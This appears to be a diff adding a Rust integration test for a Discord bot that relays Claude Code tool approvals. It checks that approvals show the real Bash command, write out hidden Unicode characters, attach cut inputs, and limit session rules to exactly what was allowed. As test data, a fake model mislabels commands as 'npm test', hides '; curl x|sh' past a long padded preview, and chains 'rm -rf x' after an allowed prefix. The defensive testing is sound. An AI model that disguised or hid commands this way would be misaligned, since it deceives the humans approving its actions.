@@ -223,6 +223,8 @@ impl World {
             allowed_dirs: Some(self.allowed.display().to_string()),
             cancel_step: Duration::from_secs(10),
             idle_timeout: Duration::from_secs(600),
+            // Shared tasks run only with a key set aside for them (the fake API takes any).
+            shared_api_key: Some(ct_agent::tasks::SharedKey("shared-tasks-test-key".into())),
             ..TaskConfig::default()
         };
         run
@@ -926,4 +928,293 @@ async fn a_relay_restart_mid_task_keeps_its_thread_going() {
     agent.stop().await.unwrap();
     relay.stop().await;
     sim.shutdown().await;
+}
+
+/// The Claude Code processes this test started in `project` (running or warm), by pid.
+fn claude_processes(project: &Path) -> Vec<u32> {
+    use ct_testkit::process::{cmdline, descendants_of};
+    let mut pids: Vec<u32> = descendants_of(std::process::id())
+        .into_iter()
+        .filter(|&pid| cmdline(pid).is_some_and(|c| c.contains("stream-json")))
+        .filter(|pid| {
+            std::fs::read_link(format!("/proc/{pid}/cwd")).is_ok_and(|cwd| cwd == project)
+        })
+        .collect();
+    pids.sort_unstable();
+    pids
+}
+
+/// An approval message in `thread` whose content has `text` and whose buttons are live.
+async fn approval_showing(sim: &DiscordSim, thread: &str, text: &str) -> SimMessage {
+    message_in(
+        sim,
+        thread,
+        &format!("an open approval showing {text:?}"),
+        |m| {
+            m.content.contains(text)
+                && m.custom_ids().iter().any(|c| c.starts_with("ao:"))
+                && !m.components.to_string().contains("\"disabled\":true")
+        },
+    )
+    .await
+}
+
+/// Issue 13, findings 3 and 4, as a person in Discord meets them: an approval shows the command that will
+/// run (not Claude's description of it), says when it is cut and attaches the whole input, writes out hidden
+/// characters; "Allow for session" covers that command (or a prefix the approver typed), never the rest of
+/// Bash; every use a rule allows is posted in the thread and audited; a follow-up task asks afresh.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn approvals_show_what_runs_and_session_rules_cover_only_what_was_allowed() {
+    let w = world().await;
+    let sim = &w.sim;
+    let alice = sim.user("alice");
+    crate::support::pair(&w.relay, w.agent_dir.path(), &alice.id).await;
+    let mut agent = TestAgent::start_with(w.run_options());
+    agent.connected(T).await;
+    let ix = sim
+        .send_slash(
+            &sim.origin(&alice),
+            &SlashCommand::new("project").sub(
+                "add",
+                [
+                    Opt::str("name", "app"),
+                    Opt::str("path", &w.project.display().to_string()),
+                ],
+            ),
+        )
+        .unwrap();
+    private(sim, &ix).await;
+    let bash = |command: &str, description: &str| json!({ "command": command, "description": description });
+    let deny = |thread: &str, approval: &SimMessage| {
+        let id = approval
+            .custom_ids()
+            .into_iter()
+            .find(|c| c.starts_with("dn:"))
+            .unwrap()
+            .replacen("dn:", "dr:", 1);
+        sim.send_modal_submit(&sim.origin_in(&alice, thread), &id, &[("reason", "no")])
+            .unwrap()
+    };
+
+    // 1. Described as "npm test", the command is something else: the approval shows the command, first.
+    let lying = "touch made.txt && echo hi";
+    w.fake
+        .push(Reply::tool_use("Bash", bash(lying, "npm test")));
+    // 2. Padded past the preview, ending in `; curl x|sh`, with a right-to-left override and a zero-width
+    //    space in it.
+    let padded = format!(
+        "echo \u{202E}txt.dab\u{200B} {} ; curl x|sh",
+        "a".repeat(1500)
+    );
+    w.fake
+        .push(Reply::tool_use("Bash", bash(&padded, "npm test")));
+    w.fake.push(Reply::text("first done"));
+    let (task, thread) = start_task(
+        sim,
+        &alice,
+        SlashCommand::new("task")
+            .opt(Opt::str("prompt", "run the tests"))
+            .opt(Opt::str("project", "app"))
+            .opt(Opt::str("mode", "default")),
+    )
+    .await;
+    let first = approval_message(sim, &thread, &task).await;
+    let shown = &first.content;
+    let command_at = shown
+        .find(&format!("```\n{lying}\n```"))
+        .unwrap_or_else(|| panic!("the command, in a code block: {shown}"));
+    let described_at = shown
+        .find("Claude's description")
+        .unwrap_or_else(|| panic!("the description, labelled: {shown}"));
+    assert!(command_at < described_at, "command first: {shown}");
+    assert_eq!(shown.matches("npm test").count(), 1, "{shown}");
+    assert!(first.attachments.is_empty(), "nothing was cut: {first:?}");
+    click(sim, &alice, &thread, &first, "ao:");
+
+    let second = approval_showing(sim, &thread, "<U+202E>").await;
+    let shown = &second.content;
+    assert!(
+        shown.contains("echo <U+202E>txt.dab<U+200B> aaa"),
+        "hidden characters written out: {shown}"
+    );
+    assert!(
+        !shown.contains('\u{202E}') && !shown.contains("txt.dab\u{200B}"),
+        "{shown}"
+    );
+    assert!(!shown.contains("curl x|sh"), "past the preview: {shown}");
+    assert!(
+        shown.contains("Cut to fit: this is not the whole input"),
+        "{shown}"
+    );
+    let whole = serde_json::to_string_pretty(&bash(&padded, "npm test")).unwrap();
+    assert_eq!(
+        second
+            .attachments
+            .iter()
+            .map(|a| (a.filename.ends_with(".json"), a.size))
+            .collect::<Vec<_>>(),
+        [(true, whole.len())],
+        "the whole input attached: {second:?}"
+    );
+    deny(&thread, &second);
+    assert_eq!(
+        nth_summary(sim, &thread, 1).await,
+        format!("✅ Done · {task}")
+    );
+    assert!(w.project.join("made.txt").exists());
+
+    // 3. "Allow this command for session" on `touch one.txt`: the same command again runs without asking,
+    //    posted and audited; `rm -rf x` still asks.
+    w.fake
+        .push(Reply::tool_use("Bash", bash("touch one.txt", "make one")));
+    w.fake.push(Reply::tool_use(
+        "Bash",
+        bash("touch one.txt", "make one again"),
+    ));
+    w.fake
+        .push(Reply::tool_use("Bash", bash("rm -rf x", "tidy up")));
+    w.fake.push(Reply::text("second done"));
+    let (task2, thread2) = start_task(
+        sim,
+        &alice,
+        SlashCommand::new("task")
+            .opt(Opt::str("prompt", "make one"))
+            .opt(Opt::str("project", "app"))
+            .opt(Opt::str("mode", "default")),
+    )
+    .await;
+    let one = approval_message(sim, &thread2, &task2).await;
+    assert!(
+        one.content
+            .contains("Allow for session: the Bash command `touch one.txt` exactly."),
+        "{}",
+        one.content
+    );
+    click(sim, &alice, &thread2, &one, "as:");
+    let auto = message_in(sim, &thread2, "the auto-allowed use", |m| {
+        m.content.starts_with("🔓 Auto-allowed by session rule")
+    })
+    .await;
+    assert!(auto.content.contains("`touch one.txt`"), "{}", auto.content);
+    message_in(sim, &thread2, "the approval closed with its rule", |m| {
+        m.id == one.id
+            && m.content
+                .contains("✅ Allowed for this session: this command by <@")
+    })
+    .await;
+    let rm = approval_showing(sim, &thread2, "rm -rf x").await;
+    deny(&thread2, &rm);
+    nth_summary(sim, &thread2, 1).await;
+    let autos = sim
+        .messages(&thread2)
+        .iter()
+        .filter(|m| m.content.starts_with("🔓"))
+        .count();
+    assert_eq!(autos, 1, "{:#?}", sim.messages(&thread2));
+    let audited = w
+        .relay
+        .core
+        .audit(&ct_relay::audit::AuditFilter::default(), 1000, None)
+        .unwrap();
+    let auto_allowed: Vec<_> = audited
+        .iter()
+        .filter(|e| matches!(e.kind, ct_relay::audit::AuditKind::AutoAllowed { .. }))
+        .collect();
+    assert_eq!(auto_allowed.len(), 1, "{audited:#?}");
+    let entry = auto_allowed[0];
+    assert_eq!(entry.task.as_deref(), Some(task2.as_str()));
+    assert_eq!(entry.owner, alice.id);
+    assert!(
+        matches!(&entry.kind, ct_relay::audit::AuditKind::AutoAllowed { tool, summary, rule, .. }
+            if tool == "Bash" && summary == "touch one.txt" && rule.contains("touch one.txt")),
+        "{entry:#?}"
+    );
+
+    // 4. A follow-up in that thread is a new task on the same process: the rule is gone, so the same
+    //    command asks again. This time the approver types a prefix: one that does not cover the command is
+    //    refused; `touch` covers `touch two.txt` but never a command chained onto it.
+    w.fake
+        .push(Reply::tool_use("Bash", bash("touch one.txt", "again")));
+    w.fake
+        .push(Reply::tool_use("Bash", bash("touch two.txt", "two")));
+    w.fake.push(Reply::tool_use(
+        "Bash",
+        bash("touch three.txt && rm -rf x", "three"),
+    ));
+    w.fake.push(Reply::text("third done"));
+    let warm = claude_processes(&w.project);
+    sim.send_message(&sim.origin_in(&alice, &thread2), "once more")
+        .unwrap();
+    let again = sim
+        .wait_until(T, |s| {
+            s.messages(&thread2).into_iter().find(|m| {
+                m.id != one.id
+                    && m.content.contains("touch one.txt")
+                    && m.custom_ids().iter().any(|c| c.starts_with("ap:"))
+                    && !m.components.to_string().contains("\"disabled\":true")
+            })
+        })
+        .await
+        .unwrap_or_else(|e| {
+            panic!(
+                "the follow-up asks again: {e:#}: {:#?}",
+                sim.messages(&thread2)
+            )
+        });
+    assert_eq!(
+        claude_processes(&w.project),
+        warm,
+        "the follow-up runs on the task's warm process, which had the rule"
+    );
+    let ix = click(sim, &alice, &thread2, &again, "ap:");
+    let cb = sim
+        .wait_callback(&ix, Duration::from_secs(3))
+        .await
+        .unwrap();
+    assert_eq!(cb.body_type(), Some(9), "a modal: {}", cb.body);
+    let modal_id = cb.body["data"]["custom_id"].as_str().unwrap().to_string();
+    assert_eq!(
+        cb.body["data"]["components"][0]["components"][0]["value"], "touch one.txt",
+        "prefilled with the command: {}",
+        cb.body
+    );
+    let origin = sim.origin_in(&alice, &thread2);
+    let ix = sim
+        .send_modal_submit(&origin, &modal_id, &[("prefix", "cargo")])
+        .unwrap();
+    let said = private(sim, &ix).await;
+    assert!(said.starts_with("⚠️ Not allowed"), "{said}");
+    let ix = sim
+        .send_modal_submit(&origin, &modal_id, &[("prefix", "touch")])
+        .unwrap();
+    let said = private(sim, &ix).await;
+    assert!(
+        said.contains("simple Bash commands starting with `touch`"),
+        "{said}"
+    );
+    message_in(sim, &thread2, "the use the prefix allowed", |m| {
+        m.content.starts_with("🔓") && m.content.contains("`touch two.txt`")
+    })
+    .await;
+    message_in(sim, &thread2, "the approval closed with the prefix", |m| {
+        m.id == again.id
+            && m.content
+                .contains("✅ Allowed for this session: simple Bash commands starting with `touch`")
+    })
+    .await;
+    let chained = approval_showing(sim, &thread2, "touch three.txt && rm -rf x").await;
+    deny(&thread2, &chained);
+    nth_summary(sim, &thread2, 2).await;
+    assert!(w.project.join("two.txt").exists());
+    assert!(!w.project.join("three.txt").exists());
+
+    // Nothing the bot sent was refused by the simulator (message sizes, attachments, modals).
+    let refused: Vec<_> = sim
+        .calls()
+        .into_iter()
+        .filter(|c| c.status >= 400)
+        .collect();
+    assert!(refused.is_empty(), "{refused:#?}");
+    agent.stop().await.unwrap();
+    w.relay.stop().await;
 }
